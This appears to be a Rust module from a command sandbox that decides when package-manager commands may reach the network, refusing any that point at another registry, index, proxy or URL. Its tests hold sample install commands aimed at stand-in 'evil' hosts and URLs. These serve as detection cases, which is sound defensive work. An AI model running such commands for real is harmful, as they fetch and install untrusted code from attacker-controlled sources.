//! Which simple commands run a package manager, and which of them fetch dependencies from the
//! manager's own index: the one thing the sandbox opens the network for. Decided here, on the
//! parse of the line, and nowhere else: a comment (`# | cargo`), a quoted word or an option
//! that names another index, registry, URL, proxy or program never opens it.

use super::shell::Word;
use crate::config::{FetchNeeds, Fetcher};

/// The package manager a simple command runs, and whether it fetches (an npm family command
/// only when it installs: `npm test` and `npm run` get no network).
pub(super) fn manager_of(base: &str, args: &[Word]) -> Option<(Fetcher, bool)> {
    let (manager, fetches) = manager_and_verb(base, args)?;
    // Told not to fetch, it needs no network.
    let offline = args
        .iter()
        .any(|a| matches!(a.text.as_str(), "--offline" | "--frozen" | "--no-index"));
    Some((manager, fetches && !offline))
}

fn manager_and_verb(base: &str, args: &[Word]) -> Option<(Fetcher, bool)> {
    let sub = args
        .iter()
        .find(|a| !a.text.starts_with('-'))
        .map_or("", |a| a.text.as_str());
    match base {
        "cargo" => Some((
            Fetcher::Cargo,
            !matches!(sub, "fmt" | "help" | "version" | ""),
        )),
        "npm" | "pnpm" | "yarn" => {
            const INSTALLS: &[&str] = &[
                "install", "i", "ci", "add", "update", "up", "upgrade", "dedupe", "view", "info",
                "show", "outdated", "audit",
            ];
            let installs = INSTALLS.contains(&sub) || (base == "yarn" && sub.is_empty());
            Some((Fetcher::Node, installs))
        }
        "pip" | "pip3" | "uv" | "poetry" => Some((Fetcher::Python, true)),
        "go" => Some((Fetcher::Go, true)),
        n if n.starts_with("python") => {
            let module = args.first().map(|a| a.text.as_str()) == Some("-m")
                && args.get(1).map(|a| a.text.as_str()) == Some("pip");
            module.then_some((Fetcher::Python, true))
        }
        _ => None,
    }
}

/// The fetch that runs no project code for a simple command that fetches, if there is one:
/// cargo's build, test and run fetch with `cargo fetch`; an npm-family install with itself and
/// `--ignore-scripts`. (pip and go have none: their fetches build what they fetch.)
pub(super) fn prefetch_for(base: &str, args: &[Word]) -> Option<Vec<String>> {
    let sub = args
        .iter()
        .find(|a| !a.text.starts_with('-'))?
        .text
        .as_str();
    let chooses = |flags: &[&str]| {
        args.iter().any(|a| {
            flags
                .iter()
                .any(|f| a.text == *f || a.text.starts_with(&format!("{f}=")))
        })
    };
    match base {
        "cargo" if chooses(&["--manifest-path", "-C", "-Z", "--config"]) => None,
        "cargo" => matches!(
            sub,
            "build" | "b" | "check" | "c" | "test" | "t" | "run" | "r" | "bench" | "clippy" | "doc"
        )
        .then(|| vec!["cargo".into(), "fetch".into()]),
        "npm" | "pnpm" | "yarn" if matches!(sub, "install" | "i" | "ci" | "add") => {
            let mut fetch: Vec<String> = std::iter::once(base.to_string())
                .chain(args.iter().map(|a| a.text.clone()))
                .collect();
            fetch.push("--ignore-scripts".into());
            Some(fetch)
        }
        _ => None,
    }
}

/// Options that point a package manager elsewhere: another index, registry, proxy or source.
const ELSEWHERE_OPTIONS: &[&str] = &[
    "--index",
    "--registry",
    "--index-url",
    "--extra-index-url",
    "--find-links",
    "--trusted-host",
    "--proxy",
    "--https-proxy",
    "--config",
    "--git",
    "--path",
    "-i",
    "-f",
    "--default-index",
];

/// Why a package manager's fetch would go somewhere other than its own index (so it gets no
/// network unasked), if it would.
pub(super) fn elsewhere(base: &str, args: &[Word]) -> Option<String> {
    for arg in args {
        let text = arg.text.as_str();
        let option = text.split('=').next().unwrap_or(text);
        if ELSEWHERE_OPTIONS.contains(&option) {
            return Some(format!(
                "`{base} {option}` fetches from another index or source"
            ));
        }
        if arg.dynamic {
            return Some(format!(
                "`{base}` is given `{text}`, known only at run time"
            ));
        }
        let lower = text.to_ascii_lowercase();
        let url = [
            "://",
            "git+",
            "github:",
            "gitlab:",
            "bitbucket:",
            "registry",
            "proxy",
        ];
        if url.iter().any(|u| lower.contains(u)) {
            return Some(format!("`{base}` is pointed at `{text}`, another source"));
        }
    }
    None
}

/// Variables that point package managers at another index, registry or proxy.
pub(super) fn points_elsewhere(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    upper.ends_with("_PROXY")
        || upper.contains("REGISTR")
        || upper.contains("INDEX")
        || matches!(
            upper.as_str(),
            "GOPROXY" | "GOFLAGS" | "GONOSUMDB" | "GONOSUMCHECK" | "GOSUMDB" | "GOPRIVATE"
        )
        || upper.starts_with("CARGO_NET")
        || upper.starts_with("NPM_CONFIG")
        || upper.starts_with("PIP_")
        || upper.starts_with("UV_")
}

/// Commands that may share a line with a fetch without sharing its network in a way that
/// matters (they run nothing of their own).
pub(super) fn harmless(base: &str) -> bool {
    matches!(
        base,
        "cd" | "pushd" | "popd" | "echo" | "printf" | "true" | "false" | "test" | "[" | ":" | "pwd"
    )
}

/// What the line's package managers fetch, and whether anything else runs beside them.
#[derive(Debug, Clone, Default)]
pub(crate) struct Fetches {
    pub(super) managers: Vec<Fetcher>,
    /// A manager fetches from its own index.
    pub(super) fetching: bool,
    /// A manager is pointed at another index, registry, proxy or source.
    pub(super) elsewhere: bool,
    /// A program other than a manager (or a harmless builtin) runs on the line.
    pub(super) others: bool,
    /// The code-free fetch of each fetching command (`None`: one has none).
    pub(super) prefetch: Vec<Option<Vec<String>>>,
    /// The line changes directory (a fetch run first would run somewhere else).
    pub(super) moves: bool,
}

impl Fetches {
    /// The caches and the network: the network only for a line of package managers fetching
    /// from their own index.
    pub(crate) fn needs(&self) -> FetchNeeds {
        let network = self.fetching && !self.elsewhere && !self.others;
        // One code-free fetch for the whole line, when every fetching command has the same one.
        let mut fetches = self.prefetch.iter();
        let first = fetches.next().cloned().flatten();
        let prefetch = match first {
            Some(first)
                if network && !self.moves && fetches.all(|p| p.as_ref() == Some(&first)) =>
            {
                first
            }
            _ => Vec::new(),
        };
        FetchNeeds {
            managers: self.managers.clone(),
            network,
            prefetch,
        }
    }

    pub(super) fn manager(&mut self, manager: Fetcher, fetches: bool) {
        if !self.managers.contains(&manager) {
            self.managers.push(manager);
        }
        self.fetching |= fetches;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(line: &str) -> Vec<Word> {
        line.split_whitespace().map(Word::literal).collect()
    }

    #[test]
    fn a_manager_fetches_from_its_own_index_only() {
        for (base, args, fetches) in [
            ("cargo", "build", true),
            ("cargo", "build --offline", false),
            ("cargo", "fmt --check", false),
            ("pip", "install --no-index -r req.txt", false),
            ("cargo", "search serde", true),
            ("npm", "install", true),
            ("npm", "view react", true),
            ("npm", "test", false),
            ("yarn", "", true),
            ("python3", "-m pip install -e .", true),
            ("python3", "-m pytest", false),
        ] {
            let found = manager_of(base, &words(args));
            assert_eq!(
                found.map(|(_, f)| f),
                Some(fetches).filter(|_| found.is_some()),
                "{base} {args}"
            );
        }
        for (base, args) in [
            ("cargo", "search --index sparse+http://127.0.0.1:9/x/ q"),
            ("cargo", "build --config net.git-fetch-with-cli=true"),
            ("npm", "install --registry=http://evil"),
            ("npm", "install git+https://evil/x.git"),
            ("npm", "install github:user/repo"),
            ("pip", "install -i http://evil/simple x"),
            ("pip", "install --extra-index-url=http://evil x"),
            ("pip", "install https://evil/x.whl"),
            ("uv", "pip install --index-url http://evil x"),
        ] {
            assert!(elsewhere(base, &words(args)).is_some(), "{base} {args}");
        }
        assert!(elsewhere("cargo", &words("build --release")).is_none());
        // A fetch that runs no project code, where there is one.
        assert_eq!(
            prefetch_for("cargo", &words("test --release")),
            Some(vec!["cargo".to_string(), "fetch".to_string()])
        );
        assert_eq!(
            prefetch_for("npm", &words("ci")),
            Some(vec![
                "npm".to_string(),
                "ci".to_string(),
                "--ignore-scripts".to_string()
            ])
        );
        assert_eq!(
            prefetch_for("cargo", &words("build --manifest-path x/Cargo.toml")),
            None
        );
        assert_eq!(prefetch_for("pip", &words("install -e .")), None);
        for name in [
            "GOPROXY",
            "npm_config_registry",
            "PIP_INDEX_URL",
            "HTTPS_PROXY",
            "CARGO_REGISTRIES_X_INDEX",
        ] {
            assert!(points_elsewhere(name), "{name}");
        }
        assert!(!points_elsewhere("RUST_LOG"));
    }
}
